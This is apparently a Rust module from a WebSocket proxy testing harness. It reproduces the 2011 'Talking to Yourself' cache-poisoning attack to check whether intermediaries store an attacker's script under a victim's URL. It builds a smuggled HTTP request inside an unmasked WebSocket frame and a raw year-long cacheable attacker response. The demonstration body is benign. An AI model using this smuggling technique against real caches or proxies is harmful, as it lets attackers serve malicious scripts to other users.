//! The cache-poisoning demonstration (workload `smuggle`), after Huang, Chen, Barth, Rescorla
//! and Jackson, "Talking to Yourself for Fun and Profit" (W2SP 2011), the reason RFC 6455
//! masks client frames (§5.3, §10.3).
//!
//! The attacker controls a script in the client and a server. The script opens a WebSocket to
//! the attacker's server (`/attacker`) and sends one text frame whose payload is the request
//! [`smuggled_request`]: `GET /script.js HTTP/1.1` with `Host: victim`. The attacker's server
//! answers that request, raw, with [`attacker_response`]. An intermediary that is not
//! upgrade-aware and reads the bytes after the 101 as HTTP sees a request for
//! `http://victim/script.js` and its response, and a cache stores the attacker's script under
//! the victim's URL. Then a victim behind the same intermediary fetches
//! `http://victim/script.js`: a new connection, over the same route as the WebSocket (the same
//! first hop, so the same cache), asking for `/script.js` with `Host: victim`. The reference
//! server plays the victim's origin too: it answers that request with [`ORIGIN_BODY`].
//!
//! The client decides the outcome from the victim's fetch alone: the origin's script is
//! `delivered`; the attacker's is `corrupted` with a detail that starts `cache poisoned:`.
//!
//! `[client] mask = false` makes the client send its frames unmasked, a deliberate violation of
//! RFC 6455 §5.3 that no browser commits, for demonstration only. The attacker's server
//! accepts unmasked frames (RFC 6455 §5.1 tells servers to close on them; this one is the
//! attacker's accomplice) and unmasks masked ones, so it answers the smuggled request either
//! way: only what the intermediary sees differs.
//!
//! Frames here are written and read by hand, since tungstenite always masks client frames and
//! would reject the raw HTTP answer the attacker's server sends.
//!
//! This file holds the demonstration's constants and messages and runs the client's side;
//! `attack.rs` the upgrade to the attacker's endpoint and the smuggling frame; `victim.rs`
//! the victim's fetch that decides the outcome; `raw.rs` a stream read by hand and its HTTP
//! answers; `frames.rs` the frame decoder; `endpoint.rs` the attacker's endpoint on the
//! server.

use std::time::Duration;

use crate::endpoints::connect::{Fail, Phase, Plan, Report, fail, ms, transport};
use crate::engine::NetRef;
use crate::verdict::outcome::Outcome;
use crate::verdict::transcript::Transcript;
use attack::{attack, upgrade};
use victim::victim_fetch;

mod attack;
mod endpoint;
mod raw;
mod victim;

pub use crate::endpoints::frames::{Decoded, Frame, decode, decode_with};
pub use endpoint::attacker_endpoint;
pub use gauntlet_proxies::ws_frames::{encode, opcode};

/// The attacker's WebSocket endpoint on the reference server.
pub const ATTACKER_PATH: &str = "/attacker";
/// The victim's host name, as the smuggled request and the victim's fetch send it.
pub const VICTIM_HOST: &str = "victim";
/// The victim's script.
pub const VICTIM_PATH: &str = "/script.js";
/// What the victim's origin serves at [`VICTIM_PATH`].
pub const ORIGIN_BODY: &str = "console.log('the genuine script of http://victim');\n";
/// What the attacker's server answers the smuggled request with.
pub const ATTACKER_BODY: &str = "alert('served by the attacker');\n";
/// How long the origin lets caches keep its script.
pub const ORIGIN_CACHE_CONTROL: &str = "max-age=3600";

/// The longest response head read by hand.
const MAX_HEAD: usize = 8192;
/// The client's name in transcripts.
const WHO: &str = "client";

/// The request the attacker smuggles in a frame's payload.
pub fn smuggled_request() -> String {
    format!("GET {VICTIM_PATH} HTTP/1.1\r\nHost: {VICTIM_HOST}\r\n\r\n")
}

/// The attacker server's raw answer: a 200 any cache would keep for a year.
pub fn attacker_response() -> Vec<u8> {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/javascript\r\nContent-Length: {}\r\nCache-Control: public, max-age=31536000\r\n\r\n{ATTACKER_BODY}",
        ATTACKER_BODY.len()
    )
    .into_bytes()
}

/// The first line of `bytes`, printable ASCII only, at most 60 characters.
fn printable(bytes: &[u8]) -> String {
    crate::endpoints::connect::printable_up_to(bytes, 60)
}

/// Runs the `smuggle` workload: the attack, then the victim's fetch, whose answer decides the
/// outcome. `start` is when the client started.
pub(crate) async fn run(
    net: &NetRef,
    plan: &Plan,
    t: &Transcript,
    report: &mut Report,
    start: Duration,
) -> Result<String, Fail> {
    let phase = Phase::new(net.now());
    let opened = tokio::select! {
        biased;
        r = async {
            let io = transport(net, plan, t, &phase).await?;
            upgrade(net, plan, t, io, &phase).await
        } => r,
        () = net.sleep_until(start.saturating_add(plan.handshake_timeout)) => Err(fail(
            Outcome::HandshakeTimeout,
            format!("no 101 within {} (stuck in {}) at {}", ms(plan.handshake_timeout), phase.get(), ms(net.now())),
        )),
    };
    let raw = opened?;
    report.handshake = Some(net.now() - start);
    attack(net, plan, t, report, raw).await;
    victim_fetch(net, plan, t, report).await
}

#[cfg(test)]
mod tests {
    use gauntlet_proxies::http::{self, Parsed};

    use super::*;

    #[test]
    fn an_unmasked_smuggling_frame_spells_the_request_after_its_header_and_a_masked_one_does_not() {
        let request = smuggled_request();
        let plain = encode(opcode::TEXT, request.as_bytes(), None);
        assert_eq!(&plain[2..], request.as_bytes());
        let masked = encode(
            opcode::TEXT,
            request.as_bytes(),
            Some([0x12, 0x34, 0x56, 0x78]),
        );
        assert!(!masked.windows(4).any(|w| w == b"GET "));
    }

    #[test]
    fn the_attacker_response_is_a_complete_cacheable_200() {
        let bytes = attacker_response();
        let Parsed::Complete(head, len) = http::parse_response(&bytes, MAX_HEAD) else {
            panic!("not a response")
        };
        assert_eq!(head.status(), Some(200));
        assert_eq!(&bytes[len..], ATTACKER_BODY.as_bytes());
        assert_eq!(
            head.framing(Some("GET")),
            Ok(http::Framing::Length(ATTACKER_BODY.len() as u64))
        );
    }
}
